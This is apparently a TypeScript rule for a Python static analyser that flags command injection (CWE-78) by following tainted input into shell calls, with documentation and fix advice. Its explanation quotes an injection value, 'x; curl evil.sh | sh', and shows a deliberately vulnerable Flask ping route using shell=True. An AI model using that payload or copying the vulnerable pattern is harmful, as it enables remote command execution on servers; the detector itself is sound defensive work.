import { createTaintRule, type SinkArgument } from '../taint-rule.js';
import { argument, keywordArg, stringValue, unparen } from '../../python/ast.js';
import { SHELL_ALWAYS, SHELL_OPTIONAL, commandLine, isTruthyLiteral } from './shell-command-built.js';
import { importsPackage } from '../../python/module-info.js';
import { isTainted } from '../../python/taint.js';
import type { RuleContext } from '../../core/context.js';
import type { SyntaxNode } from '../../python/parser.js';

/** `os.exec*`/`os.spawn*`: the program argument's position. */
const PROGRAM_ARG: Record<string, number> = {
  'os.execl': 0, 'os.execle': 0, 'os.execlp': 0, 'os.execlpe': 0, 'os.execv': 0, 'os.execve': 0, 'os.execvp': 0,
  'os.execvpe': 0, 'os.spawnl': 1, 'os.spawnle': 1, 'os.spawnlp': 1, 'os.spawnlpe': 1, 'os.spawnv': 1,
  'os.spawnve': 1, 'os.spawnvp': 1, 'os.spawnvpe': 1, 'os.posix_spawn': 0, 'os.posix_spawnp': 0,
  'asyncio.create_subprocess_exec': 0, 'pty.spawn': 0,
};

export default createTaintRule({
  kind: 'command',
  meta: {
    id: 'command-injection',
    area: 'secure-coding',
    summary: 'Attacker-controlled input reaches a shell command line or chooses the program to run.',
    severity: 'critical',
    confidence: 'high',
    cwe: ['CWE-78'],
    owasp: ['A03:2021'],
    bandit: ['B602', 'B605'],
    ruff: ['S602', 'S605'],
    messages: {
      tainted:
        'Command injection: {{source}} reaches `{{sink}}`; a value containing `;`, `|` or `$(...)` runs any command on the server. Pass arguments as a list without a shell.',
    },
    docs: {
      whatItDoes:
        'Follows attacker-controlled data (request data, route parameters, `input()`, `sys.argv`, socket reads) to command lines run through a shell (`os.system`, `os.popen`, `subprocess.*(..., shell=True)`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`, paramiko `exec_command`) to the command line a list hands to a shell (`["sh", "-c", line]`), and to the program chosen by `subprocess.*` with a list (also a list bound to a name or built with `+`) when remote data chooses it (which program a CLI runs, e.g. from `sys.argv`, is up to its user), `os.exec*`, `os.spawn*` and `asyncio.create_subprocess_exec`. Values quoted with `shlex.quote()`, converted to numbers or checked against an allow-list are not flagged; extra list items passed to a program without a shell are arguments, not code, and are not flagged.',
      whyBad:
        'A shell interprets `;`, `&&`, `|`, backticks and `$(...)`: a file name such as `x; curl evil.sh | sh` runs the attacker\'s commands with the server\'s permissions. Choosing the program itself from input is as bad.',
      example:
        'import subprocess\nfrom flask import Flask, request\n\napp = Flask(__name__)\n\n@app.route("/ping")\ndef ping():\n    host = request.args["host"]\n    return subprocess.check_output(f"ping -c 1 {host}", shell=True)',
      useInstead:
        'import subprocess\nfrom flask import Flask, request\n\napp = Flask(__name__)\n\n@app.route("/ping")\ndef ping():\n    host = request.args["host"]\n    # No shell: the host is one argument of ping, never code. "--" ends the options.\n    return subprocess.check_output(["ping", "-c", "1", "--", host])',
      fixSafety:
        'No automatic fix: turning a command line into an argument list changes how it is split, and some commands rely on shell features (pipes, globs). Quote with `shlex.quote()` only when a shell is unavoidable.',
      references: [
        'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
        'https://docs.python.org/3/library/subprocess.html#security-considerations',
        'https://docs.python.org/3/library/shlex.html#shlex.quote',
      ],
    },
    fixable: false,
  },
  callFilter: (name, method) =>
    (name !== null && (Object.hasOwn(SHELL_OPTIONAL, name) || Object.hasOwn(SHELL_ALWAYS, name) || Object.hasOwn(PROGRAM_ARG, name))) || method === 'exec_command',
  sinks(ctx, call) {
    const name = ctx.calleeName(call);
    const out: SinkArgument[] = [];
    if (name && SHELL_ALWAYS[name]) {
      const cmd = argument(call, 0, SHELL_ALWAYS[name]);
      if (cmd) out.push({ node: cmd, sink: `${name}()` });
      return out;
    }
    if (name && SHELL_OPTIONAL[name]) {
      const args = argument(call, 0, SHELL_OPTIONAL[name]);
      if (!args) return out;
      if (isTruthyLiteral(keywordArg(call, 'shell'))) {
        const line = commandLine(args);
        if (line) out.push({ node: line, sink: `${name}(..., shell=True)` });
        return out;
      }
      // Without a shell, only the program is dangerous: the first item, or a lone string.
      const a = unparen(args);
      const program = a.type === 'list' || a.type === 'tuple' ? a.namedChildren.find((c) => c.type !== 'comment') : a;
      if (!program || program.type === 'list_splat') return out;
      // `["sh", "-c", line]`: the item after `-c` is a shell command line.
      const list = a.type === 'list' || a.type === 'tuple' ? a : listValue(ctx, a);
      const line = list ? shellLineItem(list) : null;
      // Reported on the line item itself, or at the call when the list was bound to a name.
      if (line && (list === a || isTainted(ctx, line, 'command'))) out.push({ node: list === a ? line : a, sink: `${name}() via a shell` });
      // `cmd = [BROWSER] + [arg.replace("%s", url) ...]; Popen(cmd)`: the list is tainted, but
      // its first item, the program, is not. Reported at the call when the program is tainted.
      const first = program.type === 'identifier' || program.type === 'binary_operator' ? firstItem(ctx, program) : undefined;
      if (first === null || (first && !isTainted(ctx, first, 'command'))) return out;
      // Which program a CLI runs is its user's choice (`os.execv(sys.executable, [sys.executable] + sys.argv)`).
      out.push({ node: program, sink: `${name}() program`, remoteOnly: true });
      return out;
    }
    if (name && PROGRAM_ARG[name] !== undefined) {
      const program = argument(call, PROGRAM_ARG[name] ?? 0);
      if (program) out.push({ node: program, sink: `${name}()`, remoteOnly: true });
      return out;
    }
    const fn = call.childForFieldName('function');
    if (fn?.type === 'attribute' && fn.childForFieldName('attribute')?.text === 'exec_command' && importsPackage(ctx, 'paramiko')) {
      const cmd = argument(call, 0, 'command');
      if (cmd) out.push({ node: cmd, sink: 'exec_command()' });
    }
    return out;
  },
});

/**
 * The first item of a list a name is bound to (once) or of a list concatenation: `undefined`
 * when the value is not such a list (the whole value is the program), `null` when the first
 * item is a splat (unknown).
 */
function firstItem(ctx: RuleContext, node: SyntaxNode, depth = 0): SyntaxNode | null | undefined {
  const n = unparen(node);
  if (depth > 4) return undefined;
  if (n.type === 'list' || n.type === 'tuple') {
    const first = n.namedChildren.find((c) => c.type !== 'comment');
    return !first || first.type === 'list_splat' ? null : first;
  }
  if (n.type === 'binary_operator' && n.child(1)?.type === '+') {
    const left = n.childForFieldName('left');
    return left ? firstItem(ctx, left, depth + 1) : undefined;
  }
  if (n.type === 'identifier') {
    const v = ctx.valueOf(n);
    return v && v.id !== n.id ? firstItem(ctx, v, depth + 1) : undefined;
  }
  return undefined;
}

const SHELLS = /^(?:\/(?:usr\/)?bin\/)?(?:sh|bash|zsh|dash|ksh)$|^(?:cmd|cmd\.exe|powershell|pwsh)$/i;

/** The list literal a name is bound to (once), if any. */
function listValue(ctx: RuleContext, node: SyntaxNode): SyntaxNode | null {
  if (node.type !== 'identifier') return null;
  const v = ctx.valueOf(node);
  const n = v && v.id !== node.id ? unparen(v) : null;
  return n && (n.type === 'list' || n.type === 'tuple') ? n : null;
}

/** In `[shell, "-c", line, ...]` (or `/c`, `-Command`), the `line` item. */
function shellLineItem(list: SyntaxNode): SyntaxNode | null {
  const items = list.namedChildren.filter((c) => c.type !== 'comment');
  if (!SHELLS.test(stringValue(items[0] ?? null) ?? '')) return null;
  const flag = items.findIndex((c, i) => i > 0 && /^(?:-c|\/c|-Command)$/i.test(stringValue(c) ?? ''));
  const line = flag > 0 ? items[flag + 1] : undefined;
  return line && line.type !== 'list_splat' ? line : null;
}
